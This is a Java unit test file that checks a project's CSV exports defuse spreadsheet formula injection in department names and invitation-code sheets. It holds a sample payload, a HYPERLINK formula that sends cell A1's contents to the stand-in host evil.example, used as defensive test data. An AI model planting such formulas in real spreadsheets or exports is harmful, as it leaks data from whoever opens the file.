package nl.onderstroom;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import nl.onderstroom.organisation.DepartmentCsv;
import nl.onderstroom.scan.InvitationSheets;
import nl.onderstroom.scan.InvitationService;
import nl.onderstroom.scan.ScanService;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Every CSV export, read as a spreadsheet would (Commons CSV parser), with department names that are formulas:
 * no cell starts with = + - @ tab or CR. Matrix: map/MapExportsFormulaTest (the map fixture lives there).
 */
class CsvExportsTest {

    static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";

    static List<List<String>> cells(String csv, char separator) throws IOException {
        return CSVFormat.RFC4180.builder().setDelimiter(separator).get().parse(new StringReader(csv.replace("\uFEFF", "")))
                .getRecords().stream().map(CSVRecord::toList).toList();
    }

    static void noFormulas(List<List<String>> rows) {
        rows.forEach(row -> row.forEach(cell -> assertThat(!cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0
                || cell.startsWith("-") && !cell.matches("-\\d+(\\.\\d+)?")).as(cell).isFalse()));
    }

    @Test
    void the_department_export_defuses_formulas_and_imports_back_unchanged() throws IOException {
        List<DepartmentCsv.Row> rows = List.of(new DepartmentCsv.Row(2, EVIL, null, 5),
                new DepartmentCsv.Row(3, "@Kantoor", EVIL, 7), new DepartmentCsv.Row(4, "-Min", null, 1));
        byte[] file = DepartmentCsv.writeUtf8WithBom(rows);
        List<List<String>> cells = cells(new String(file, StandardCharsets.UTF_8), ';');
        noFormulas(cells);
        assertThat(cells.get(1).get(0)).isEqualTo("'" + EVIL);

        DepartmentCsv.ParseResult back = DepartmentCsv.parse(file);
        assertThat(back.problems()).isEmpty();
        assertThat(back.rows()).extracting(DepartmentCsv.Row::name).containsExactly(EVIL, "@Kantoor", "-Min");
        assertThat(back.rows()).extracting(DepartmentCsv.Row::parent).containsExactly(null, EVIL, null);
    }

    @Test
    void the_code_export_defuses_a_formula_department_name() throws IOException {
        var issued = new InvitationService.IssuedCodes(1, "Scan", 2L, "+31 Verkoop", List.of("ABCDEFGHJKMN"));
        List<List<String>> cells = cells(new String(InvitationSheets.csv(issued, "https://scan.example.test"),
                StandardCharsets.UTF_8), ',');
        noFormulas(cells);
        assertThat(cells.get(1)).containsExactly("'+31 Verkoop", "ABCD-EFGH-JKMN", "https://scan.example.test/s/ABCDEFGHJKMN");
    }
}
